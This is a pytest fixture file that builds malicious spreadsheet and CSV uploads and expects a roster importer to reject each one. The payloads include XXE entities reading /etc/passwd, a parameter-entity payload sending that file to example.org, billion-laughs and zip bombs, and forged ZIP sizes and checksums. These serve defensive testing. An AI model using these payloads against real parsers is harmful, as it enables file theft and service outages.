"""Files that mean harm, made as somebody would make them; `REFUSED` says what is wrong with each."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pytest

from services.rules.roster.limits import MAX_PARTS
from services.rules.roster.reading import MAX_FILE_BYTES
from tests.roster.rosters import CADRES, HOUSEHOLDS, UNITS, delimited, xlsx

GOOD = xlsx(单位=UNITS, 干部=CADRES, 农户=HOUSEHOLDS)
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
BILLION_LAUGHS = (
    b'<!DOCTYPE sst [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (97 + level, b"&%c;" % (96 + level) * 10) for level in range(1, 12))
    + b"]><sst "
    + MAIN
    + b"><si><t>&l;</t></si></sst>"
)
XXE = b'<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst ' + MAIN + b"><si><t>&x;</t></si></sst>"


def changed(path: str, change: Callable[[bytes], bytes], data: bytes = GOOD) -> bytes:
    """The workbook with one part rewritten."""
    packed = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name == path else old.read(name))
    return packed.getvalue()


def with_part(path: str, content: bytes) -> bytes:
    packed = BytesIO(GOOD)
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(path, content)
    return packed.getvalue()


def with_row(row: bytes) -> bytes:
    return changed(SHEET, lambda xml: xml.replace(b"</sheetData>", row + b"</sheetData>"))


def with_encrypted_entries() -> bytes:
    """Bit 0 of every entry's flags, in both headers."""
    data = bytearray(GOOD)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def with_lying_size(path: str, honest: bytes, hidden: bytes) -> bytes:
    """The entry declares size and checksum of `honest` and unpacks to `honest` + `hidden`."""
    data = bytearray(changed(path, lambda _: honest + hidden))
    true, claimed = (struct.pack("<I", zlib.crc32(content)) for content in (honest + hidden, honest))
    for mark, checksum_at, size_at in ((b"PK\x03\x04", 14, 22), (b"PK\x01\x02", 16, 24)):
        at = data.find(mark)
        while at >= 0:
            if data[at + checksum_at : at + checksum_at + 4] == true:
                data[at + checksum_at : at + checksum_at + 4] = claimed
                data[at + size_at : at + size_at + 4] = struct.pack("<I", len(honest))
            at = data.find(mark, at + 4)
    return bytes(data)


def other_zip() -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    return packed.getvalue()


def twice_the_same_part() -> bytes:
    with pytest.warns(UserWarning, match="Duplicate name"):
        return with_part(SHEET, b"<worksheet/>")


def packed_with(method: int) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(BytesIO(GOOD)) as old, zipfile.ZipFile(packed, "w", method) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return packed.getvalue()


def many_parts() -> bytes:
    packed = BytesIO(GOOD)
    with zipfile.ZipFile(packed, "a") as archive:
        for number in range(MAX_PARTS):
            archive.writestr(f"docProps/{number}.xml", "<x/>")
    return packed.getvalue()


def one_remark_everywhere(characters: int) -> bytes:
    """Nearly 20,000 households with one shared remark: small in the file, large in the answer."""
    with zipfile.ZipFile(BytesIO(GOOD)) as archive:
        known = archive.read(STRINGS).count(b"<si>")
    rows = "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>H{row}</t></is></c>'
        f'<c r="B{row}" t="inlineStr"><is><t>head</t></is></c><c r="C{row}" t="inlineStr"><is><t>0101</t></is></c>'
        f'<c r="J{row}" t="s"><v>{known}</v></c></row>'
        for row in range(4, 20_000)
    )
    remark = b"<si><t>" + b"x" * characters + b"</t></si></sst>"
    data = changed(STRINGS, lambda xml: xml.replace(b"</sst>", remark))
    sheet = "xl/worksheets/sheet3.xml"
    return changed(sheet, lambda xml: xml.replace(b"</sheetData>", rows.encode() + b"</sheetData>"), data)


def nested_bomb() -> bytes:
    """A bomb inside, which only somebody who opens what is embedded would set off."""
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", bytes(40 << 20))
    return with_part("xl/embeddings/object.zip", inner.getvalue())


def with_wrong_checksum() -> bytes:
    data = bytearray(GOOD)
    at = data.rfind(b"PK\x01\x02", 0, data.find(SHEET.encode(), data.find(b"PK\x01\x02")))
    data[at + 16] ^= 0xFF
    return bytes(data)


def with_zip64_lie() -> bytes:
    """The directory says that the sheet is larger than any file, and its extra field says otherwise."""
    data = bytearray(GOOD)
    at = data.rfind(b"PK\x01\x02", 0, data.find(SHEET.encode(), data.find(b"PK\x01\x02")))
    data[at + 24 : at + 28] = b"\xff" * 4
    return bytes(data)


def deeply_nested() -> bytes:
    deep = 200_000
    return changed(SHEET, lambda xml: xml.replace(b"</sheetData>", b"<a>" * deep + b"</a>" * deep + b"</sheetData>"))


def with_shared_texts(megabytes: int) -> bytes:
    """One text that nobody uses."""
    return changed(
        STRINGS, lambda xml: xml.replace(b"</sst>", b"<si><t>" + b"x" * (megabytes << 20) + b"</t></si></sst>")
    )


def with_formulas() -> bytes:
    """Every value of the sheet of units as a formula with its last result, which is what counts."""
    return changed(SHEET, lambda xml: xml.replace(b"<v>", b"<f>HYPERLINK(&quot;http://example.org&quot;)</f><v>"))


EXTERNAL = b'<!DOCTYPE sst SYSTEM "http://example.org/a.dtd"><sst ' + MAIN + b"></sst>"
PARAMETER = (
    b'<!DOCTYPE sst [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY c SYSTEM \'http://example.org/?%a;\'>">'
    b"%b;]><sst " + MAIN + b"><si><t>&c;</t></si></sst>"
)
GIANT_LINE = b"\xe7\xbc\x96\xe7\xa0\x81,\xe5\x90\x8d\xe7\xa7\xb0\n" + b"x" * (4 << 20)

REFUSED = {
    "empty": ("a.xlsx", b"", "empty"),
    "larger than 5 MB": ("a.xlsx", b"PK" + bytes(MAX_FILE_BYTES), "too_large"),
    "a picture": ("a.png", b"\x89PNG\r\n\x1a\n", "not_a_workbook"),
    "text called .xlsx": ("a.xlsx", "编码,名称".encode(), "not_a_workbook"),
    "a page called .xls": ("a.xls", b"<html><table><tr><td>", "not_a_workbook"),
    "another zip": ("a.xlsx", other_zip(), "not_a_workbook"),
    "an old .xls called .xlsx": ("a.xlsx", OLE + "Workbook".encode("utf-16-le"), "old_xls"),
    "with a password": ("a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "encrypted entries": ("a.xlsx", with_encrypted_entries(), "encrypted"),
    "macros by name": ("a.xlsm", GOOD, "macros"),
    "macros inside": ("a.xlsx", with_part("xl/vbaProject.bin", b"\0"), "macros"),
    "cut off": ("a.xlsx", GOOD[: len(GOOD) // 2], "damaged"),
    "a bit fell over": ("a.xlsx", GOOD.replace(b"PK\x01\x02", b"PK\x01\x03", 1), "damaged"),
    "broken XML": ("a.xlsx", changed(SHEET, lambda xml: xml[:-20]), "damaged"),
    "the same part twice": ("a.xlsx", twice_the_same_part, "damaged"),
    "an unusual compression": ("a.xlsx", packed_with(zipfile.ZIP_BZIP2), "damaged"),
    "a zip bomb": ("a.xlsx", lambda: changed(STRINGS, lambda xml: xml + b" " * (60 << 20)), "too_large_unpacked"),
    "many parts": ("a.xlsx", many_parts, "too_large_unpacked"),
    "billion laughs": ("a.xlsx", changed(STRINGS, lambda _: BILLION_LAUGHS), "unsafe"),
    "an external entity": ("a.xlsx", changed(STRINGS, lambda _: XXE), "unsafe"),
    "a document type in UTF-16": (
        "a.xlsx",
        changed(STRINGS, lambda _: ("\ufeff" + XXE.decode()).encode("utf-16-le")),
        "unsafe",
    ),
    "a far last row": ("a.xlsx", with_row(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), "too_many_rows"),
    "a far last column": ("a.xlsx", with_row(b'<row r="9"><c r="XFD9"><v>1</v></c></row>'), "too_many_columns"),
    "a far cell in other words": (
        "a.xlsx",
        with_row(b"<row><c\n r = '&#88;FD1048576' t='inlineStr'><is><t>x</t></is></c></row>"),
        "too_many_rows",
    ),
    "a far cell in a near row": ("a.xlsx", with_row(b'<row r="9"><c r="A999999"><v>1</v></c></row>'), "too_many_rows"),
    "many cells without a place": (
        "a.xlsx",
        with_row(b"<row>" + b"<c><v>1</v></c>" * 201 + b"</row>"),
        "too_many_columns",
    ),
    "many rows without a number": ("a.xlsx", with_row(b"<row><c><v>1</v></c></row>" * 20_001), "too_many_rows"),
    "an external document type": ("a.xlsx", changed(STRINGS, lambda _: EXTERNAL), "unsafe"),
    "a parameter entity": ("a.xlsx", changed(STRINGS, lambda _: PARAMETER), "unsafe"),
    "a wrong checksum": ("a.xlsx", with_wrong_checksum(), "damaged"),
    "a size beyond all bounds": ("a.xlsx", with_zip64_lie(), "too_large_unpacked"),
    "a million columns": (
        "a.csv",
        "编码,名称".encode() + b",x" * 1_048_576,
        "too_many_columns",
    ),
    "a giant line": ("a.csv", GIANT_LINE, "broken_csv"),
    "NULs in a .csv": ("a.csv", "编码,名称\n1,a\0b".encode(), "not_text"),
    "a workbook's name on a .csv": ("a.xlsx", delimited(UNITS), "not_a_workbook"),
    "a .csv's name on an old workbook": ("a.csv", OLE + "Workbook".encode("utf-16-le"), "old_xls"),
    "nothing of a roster": ("a.xlsx", xlsx(说明=[["怎样填写"]]), "no_sheet"),
}


def made(data: bytes | Callable[[], bytes]) -> bytes:
    return data() if callable(data) else data


def one_text_everywhere(characters: int) -> bytes:
    """One long text, shown in 40,000 cells: small in the file, not so once it is read."""
    cells = "".join(
        f'<row r="{row}">' + "".join(f'<c r="{column}{row}" t="s"><v>0</v></c>' for column in "ABCDEFGH") + "</row>"
        for row in range(1, 5_001)
    )
    text = b"<si><t>" + b"x" * characters + b"</t></si>"
    data = changed(STRINGS, lambda xml: xml.replace(b"<si>", text + b"<si>", 1))
    sheet = b"<worksheet " + MAIN + b"><sheetData>" + cells.encode() + b"</sheetData></worksheet>"
    return changed(SHEET, lambda _: sheet, data)
